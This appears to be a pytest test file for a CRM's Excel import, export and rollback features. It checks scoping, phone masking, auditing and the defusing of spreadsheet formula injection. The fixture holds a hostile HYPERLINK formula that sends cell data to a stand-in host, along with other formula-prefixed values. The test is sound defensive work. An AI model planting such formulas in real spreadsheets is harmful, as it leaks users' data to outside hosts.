"""Export → import changes nothing (IE-3); exports are scoped, masked, defused and audited (IE-4, IE-6); rollback
undoes a commit while none of its records changed since."""
import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from crm.audit.models import AuditEvent
from crm.companies.models import Company, Contact
from crm.errors import Conflict
from crm.extensions import db
from crm.imports import services
from crm.meetings.models import Task
from crm.projects.models import Project, StageMove

from ..factories import VALID_USCC, login, make_company, make_contact, make_project, make_reference, make_user
from ..security.helpers import checksum
from .helpers import COMPANY_HEADER, committed, previewed, xlsx


def count(model) -> int:
    return db.session.scalar(select(func.count()).select_from(model))


@pytest.fixture
def book():
    make_reference()
    officer = make_user("officer", name="王一", locale="en")
    other = make_user("officer", name="李四")
    hostile = make_company("=HYPERLINK(\"http://evil.test?x=\"&A2,\"click\")", owner=officer, uscc=VALID_USCC[0],
                           cluster="electronic_info", origin_city="shenzhen", employees=120,
                           revenue=Decimal("3000.50"), chain_tags=["连接器", "PCB"], hmt_funded=True,
                           listing_status="preparing", source="event", status="resident", address="+86 深圳",
                           notes="第一行\n@第二行", short_name="-华信")
    plain = make_company("吉安绿源食品有限公司", owner=officer, cluster="green_food", notes="")
    pool = make_company("公海东莞宏达有限公司", uscc=VALID_USCC[1])
    make_contact(hostile, name="王经理", mobile="13800138000", title="总经理", email="w@example.com", wechat="wx_wang")
    make_contact(plain, name="-李", mobile="0796-8123456")
    make_project(hostile, owner=officer, name="=1+1 新厂", stage="signed", planned_investment=52000,
                 cluster="electronic_info", park="dunhou", key_project=True, land_mu=Decimal("120.5"),
                 planned_start=date(2025, 3, 1), description="@生产线", confidential=True, code_name="白鹭")
    make_project(plain, owner=officer, name="食品二期", stage="lead", fixed_asset_investment=Decimal("10.25"))
    return officer, other, [hostile, plain, pool]


def _export(client, url) -> bytes:
    response = client.get(url)
    assert response.status_code == 200, response.status_code
    return response.data


@pytest.mark.parametrize(("kind", "url"), [("companies", "/companies/export.xlsx"),
                                           ("contacts", "/imports/export/contacts.xlsx"),
                                           ("projects", "/projects/export.xlsx")])
def test_export_then_import_changes_nothing(app, client, book, kind, url):
    officer, _other, _companies = book
    login(client, officer)
    data = _export(client, url)
    tables = ("company", "contact", "project", "stage_move", "milestone")
    before = checksum(*tables)
    run = previewed(data, officer, kind=kind)
    assert run.status == "previewed", run.message
    unchanged = {"companies": 3, "contacts": 2, "projects": 2}[kind]
    assert run.counts == {"unchanged": unchanged}, (run.counts, services.flagged_rows(run)[0] and
                                                    [(r.row, r.problems) for r in services.flagged_rows(run)[0]])
    committed(run, officer)
    assert checksum(*tables) == before


def test_round_trip_keeps_the_book_byte_for_byte(app, client, book):
    officer, _other, _companies = book
    login(client, officer)
    tables = ("company", "contact", "project", "stage_move", "milestone", "funds_entry")
    before = checksum(*tables)
    for kind, url in (("companies", "/companies/export.xlsx"), ("contacts", "/imports/export/contacts.xlsx"),
                      ("projects", "/projects/export.xlsx")):
        run = committed(previewed(_export(client, url), officer, kind=kind), officer)
        assert run.status == "committed" and run.counts.get("written") == 0, run.counts
    assert checksum(*tables) == before


def test_export_defuses_formulas_keeps_identifiers_text_and_is_audited(app, client, book):
    officer, _other, _companies = book
    login(client, officer)
    sheet = load_workbook(io.BytesIO(_export(client, "/companies/export.xlsx"))).active
    rows = list(sheet.iter_rows())
    header = [c.value for c in rows[0]]
    assert header[:3] == ["Company name", "Short name", "Unified social credit code"]
    values = {r[0].value: r for r in rows[1:]}
    hostile = values["'=HYPERLINK(\"http://evil.test?x=\"&A2,\"click\")"]
    assert hostile[1].value == "'-华信" and hostile[2].value == VALID_USCC[0] and hostile[2].number_format == "@"
    for row in rows:
        for cell in row:
            assert cell.data_type != "f"
    notes = hostile[header.index("Notes")].value
    assert notes == "第一行\n@第二行"
    assert hostile[header.index("Address")].value == "'+86 深圳"
    event = db.session.scalar(select(AuditEvent).where(AuditEvent.action == "export").order_by(AuditEvent.id.desc()))
    assert event.actor_id == officer.id and event.changes["rows"][1] == 3


def test_exports_are_scoped_and_mask_phones_for_those_who_may_not_see_them(app, client, book):
    """IE-6: another officer's export holds the pool and nothing of officer 王一's; phones of companies the
    exporter does not hold are masked."""
    officer, other, companies = book
    login(client, other)
    sheet = load_workbook(io.BytesIO(_export(client, "/companies/export.xlsx")), read_only=True).active
    assert [r[0] for r in list(sheet.iter_rows(values_only=True))[1:]] == ["公海东莞宏达有限公司"]
    make_contact(companies[2], name="公海联系人", mobile="13612345678", wechat="wx_pool")
    contacts = load_workbook(io.BytesIO(_export(client, "/imports/export/contacts.xlsx")), read_only=True).active
    body = list(contacts.iter_rows(values_only=True))[1:]
    assert [(r[0], r[2], r[4], r[6]) for r in body] == [("公海东莞宏达有限公司", "公海联系人", "136****5678", "w***l")]
    tasks = load_workbook(io.BytesIO(_export(client, "/imports/export/tasks.xlsx")), read_only=True).active
    assert list(tasks.iter_rows(values_only=True))[1:] == []
    manager = make_user("manager")
    db.session.add(Task(title="回访华信", due_on=date(2025, 3, 3), owner_id=officer.id, company_id=companies[0].id))
    db.session.commit()
    as_manager = app.test_client()
    login(as_manager, manager)
    tasks = load_workbook(io.BytesIO(_export(as_manager, "/imports/export/tasks.xlsx?done=0")),
                          read_only=True).active
    rows = list(tasks.iter_rows(values_only=True))
    assert rows[1][0] == "回访华信" and rows[1][1] == "2025-03-03" and rows[1][2] == "王一"


def test_rollback_deletes_what_it_created_and_restores_what_it_changed(app, book):
    officer, _other, companies = book
    hostile = companies[0]
    before = _book()
    rows = [["深圳华信电子有限公司", VALID_USCC[0], "", "", 999, "", "", "", ""],
            ["新导入一有限公司", "", "", "", 1, "", "张", "13500135000", ""],
            ["新导入二有限公司", "", "", "", 2, "", "", "", ""]]
    run = committed(previewed(xlsx(rows, header=COMPANY_HEADER), officer), officer)
    assert run.status == "committed", run.message
    assert count(Company) == 5 and db.session.get(Company, hostile.id).employees == 999
    services.rollback(run.id, actor=officer)
    db.session.expire_all()
    assert count(Company) == 3
    assert db.session.get(Company, hostile.id).employees == 120
    assert db.session.scalar(select(Company.id).where(Company.name.like("新导入%"))) is None
    # the restore bumps the version (an open edit form of the company is stale) and the import counted as activity;
    # nothing else differs
    assert _book() == before
    assert db.session.scalar(select(AuditEvent.action).where(AuditEvent.action == "import_rollback")) is not None


def _book(exclude=("version", "updated_at", "last_activity_at")) -> list[dict]:
    db.session.rollback()
    table = Company.__table__
    rows = db.session.execute(select(table).order_by(table.c.id)).mappings().all()
    contacts = db.session.execute(select(Contact.__table__).order_by(Contact.id)).mappings().all()
    return [{k: v for k, v in r.items() if k not in exclude} for r in rows] + [dict(c) for c in contacts]


def test_rollback_is_refused_once_a_record_changed(app, client, book):
    officer, _other, _companies = book
    rows = [["回滚测试有限公司", "", "", "", 1, "", "", "", ""]]
    run = committed(previewed(xlsx(rows, header=COMPANY_HEADER), officer), officer)
    created = db.session.scalar(select(Company).where(Company.name == "回滚测试有限公司"))
    make_project(created, owner=officer, name="后来的项目")
    with pytest.raises(Conflict):
        services.rollback(run.id, actor=officer)
    db.session.rollback()
    assert db.session.scalar(select(Company.id).where(Company.name == "回滚测试有限公司")) is not None
    run2 = committed(previewed(xlsx([["第二个有限公司", "", "", "", 1, "", "", "", ""]], header=COMPANY_HEADER),
                               officer), officer)
    second = db.session.scalar(select(Company).where(Company.name == "第二个有限公司"))
    second.employees = 77
    db.session.commit()
    with pytest.raises(Conflict) as caught:
        services.rollback(run2.id, actor=officer)
    assert "changed" in caught.value.message
    db.session.rollback()
    assert db.session.get(Company, second.id).employees == 77
    stranger = make_user("officer")
    with pytest.raises(services.NotFound):
        services.rollback(run2.id, actor=stranger)


def test_rollback_of_a_projects_import_removes_moves_and_milestones(app, book):
    officer, _other, companies = book
    header = ["企业名称", "项目名称", "阶段", "计划投资（万元）"]
    rows = [["吉安绿源食品有限公司", "签约新项目", "签约", 3000], ["吉安绿源食品有限公司", "线索新项目", "线索", ""]]
    moves = count(StageMove)
    run = committed(previewed(xlsx(rows, header=header), officer, kind="projects"), officer)
    assert run.status == "committed", run.message
    signed = db.session.scalar(select(Project).where(Project.name == "签约新项目"))
    assert signed.stage == "signed" and signed.owner_id == officer.id and count(StageMove) == moves + 2
    from crm.support.models import Milestone

    assert db.session.scalar(select(func.count()).select_from(Milestone).where(Milestone.project_id == signed.id))
    signed_id = signed.id
    services.rollback(run.id, actor=officer)
    assert count(Project) == 2 and count(StageMove) == moves
    assert db.session.scalar(select(func.count()).select_from(Milestone).where(Milestone.project_id == signed_id)) == 0
    assert db.session.get(Company, companies[1].id) is not None and count(Contact) == 2


def test_an_imported_company_merged_away_cannot_be_rolled_back_and_is_not_matched_again(app, book):
    """DI-6 with imports: a company an import created ("create anyway" beside its look-alike) is merged into the
    look-alike; the import's rollback is then refused (it would take the merged records with it), and importing the
    file again matches the survivor, not the merged-away company."""
    from crm.companies import merge

    officer, _other, companies = book
    plain = companies[1]
    rows = [["吉安绿源食品（吉安）有限公司", "", "", "", 7, "", "孙", "13300133000", ""]]
    data = xlsx(rows, header=COMPANY_HEADER)
    run = previewed(data, officer)
    flagged = services.flagged_rows(run)[0]
    assert [(r.row, r.action, r.match["id"]) for r in flagged] == [(2, "duplicate", plain.id)]
    services.choose(run.id, 2, "create", actor=officer)
    run = committed(run, officer)
    twin = db.session.scalar(select(Company).where(Company.name == "吉安绿源食品（吉安）有限公司"))
    survivor = db.session.get(Company, plain.id)
    merge.merge_companies(survivor.id, twin.id, actor=officer, survivor_version=survivor.version,
                          loser_version=twin.version)
    contacts_before = count(Contact)
    with pytest.raises(Conflict):
        services.rollback(run.id, actor=officer)
    db.session.rollback()
    assert count(Contact) == contacts_before
    assert db.session.scalar(select(Contact.company_id).where(Contact.mobile == "13300133000")) == plain.id
    again = previewed(data, officer)
    matches = {r.match["id"] for r in services.flagged_rows(again)[0] if r.match}
    assert matches == {plain.id}


def test_an_imported_city_reaches_the_companys_projects_and_its_rollback_takes_it_back(app, book):
    """The projects keep a copy of their company's origin city (the dashboard's breakdown by city): an import that
    changes a company's city changes theirs, and its rollback restores it."""
    officer, _other, companies = book
    hostile = companies[0]
    project = make_project(company=hostile, owner=officer)
    assert db.session.get(Project, project.id).origin_city == "shenzhen"
    rows = [["深圳华信电子有限公司", VALID_USCC[0], "", "东莞", "", "", "", "", ""]]
    run = committed(previewed(xlsx(rows, header=COMPANY_HEADER), officer), officer)
    assert run.status == "committed", run.message
    db.session.expire_all()
    assert db.session.get(Company, hostile.id).origin_city == "dongguan"
    assert db.session.get(Project, project.id).origin_city == "dongguan"
    services.rollback(run.id, actor=officer)
    db.session.expire_all()
    assert db.session.get(Project, project.id).origin_city == "shenzhen"
